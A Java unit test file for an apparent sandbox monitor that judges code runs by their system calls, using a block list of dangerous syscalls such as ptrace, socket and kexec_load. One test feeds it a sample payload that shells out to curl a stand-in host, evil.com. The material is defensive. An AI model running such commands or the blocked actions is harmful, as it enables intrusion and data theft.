package dev.airlock.client;

import static org.assertj.core.api.Assertions.assertThat;

import dev.airlock.schemas.scan.Hint;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class SnaftMonitorTest {
    private final SnaftMonitor monitor = new SnaftMonitor("code:execute");

    @Test
    void the_seed_example_of_calls_has_the_seed_example_s_violation() {
        monitor.logSyscall("sys_write");
        monitor.logSyscall("sys_socket");
        Triage decision = monitor.triage();
        assertThat(decision.isSafe()).isFalse();
        assertThat(decision.violations()).containsExactly("sys_socket (blocked: dangerous syscall for any intent)");
    }

    @Test
    void the_seed_example_of_a_payload_is_a_kill() {
        assertThat(monitor.scanPayload("import os; os.system('curl evil.com')"))
                .extracting(Hint::pseudoSyscall)
                .containsExactly("sys_socket", "sys_socket", "sys_fork");
        assertThat(monitor.triage().isKill()).isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "sys_ptrace",
                "sys_socket",
                "sys_connect",
                "sys_dlopen",
                "sys_fork",
                "sys_clone",
                "sys_mount",
                "sys_reboot",
                "sys_kexec_load"
            })
    void the_nine_are_dangerous_before_any_allow_list_is_asked(String call) {
        for (String intent : new String[] {"code:execute", "call:voice", "http:get", "of:nobody"}) {
            var one = new SnaftMonitor(intent);
            one.logSyscall(call);
            assertThat(one.triage().violations())
                    .containsExactly(call + " (blocked: dangerous syscall for any intent)");
        }
    }

    @ParameterizedTest
    @CsvSource({
        "code:execute, sys_getpid, true",
        "code:execute, sys_getdents, false",
        "file:scan, sys_getdents, true",
        "call:voice:hd, sys_sendto, true",
        "call:voice:hd, sys_mmap, false",
        "call:video, sys_mmap, true",
        "of:nobody, sys_open, false",
        "of:nobody, sys_brk, true",
        "code:executeX, sys_open, false"
    })
    void a_call_is_judged_by_the_list_of_its_intent_s_route(String intent, String call, boolean safe) {
        var one = new SnaftMonitor(intent);
        one.logSyscall(call);
        assertThat(one.triage().isSafe()).isEqualTo(safe);
        if (!safe) {
            assertThat(one.triage().violations()).containsExactly(call + " (not allowed for intent '" + intent + "')");
        }
    }

    @Test
    void every_call_is_kept_in_order_also_twice_and_also_a_violation() {
        for (String call : new String[] {"sys_read", "sys_fork", "sys_read", "sys_nothing"}) {
            monitor.logSyscall(call);
        }
        assertThat(monitor.triage().observedSyscalls())
                .containsExactly("sys_read", "sys_fork", "sys_read", "sys_nothing");
    }

    @Test
    void the_reason_has_the_count_and_the_list_or_the_count_and_the_intent() {
        monitor.logSyscall("sys_read");
        assertThat(monitor.triage().reason())
                .isEqualTo("1 syscalls observed for intent 'code:execute', all of them allowed");
        monitor.logSyscall("sys_fork");
        monitor.logSyscall("sys_open_by_handle_at");
        assertThat(monitor.triage().reason())
                .isEqualTo("2 violations: sys_fork (blocked: dangerous syscall for any intent);"
                        + " sys_open_by_handle_at (not allowed for intent 'code:execute')");
    }

    @Test
    void a_run_that_failed_is_unsafe_with_that_error_as_its_reason_whatever_it_called() {
        monitor.logSyscall("sys_fork");
        monitor.failed("the machine did not start");
        assertThat(monitor.triage().isKill()).isTrue();
        assertThat(monitor.triage().reason()).isEqualTo("the machine did not start");
        assertThat(monitor.triage().violations()).hasSize(1);
    }

    @Test
    void one_violation_is_enough_and_there_is_no_warning() {
        for (int i = 0; i < 1000; i++) {
            monitor.logSyscall("sys_write");
        }
        assertThat(monitor.triage().isSafe()).isTrue();
        monitor.logSyscall("sys_ptrace");
        assertThat(monitor.triage().isKill()).isTrue();
    }

    @Test
    void a_dry_run_of_a_clean_payload_shows_five_calls() {
        assertThat(monitor.dryRun("print(1)")).isEmpty();
        assertThat(monitor.triage().observedSyscalls())
                .containsExactly("sys_execve", "sys_read", "sys_write", "sys_brk", "sys_exit");
    }

    @Test
    void a_dry_run_with_a_violation_does_not_end_in_order() {
        monitor.dryRun("eval(x)");
        assertThat(monitor.triage().observedSyscalls()).containsExactly("sys_execve", "sys_ptrace");
    }
}
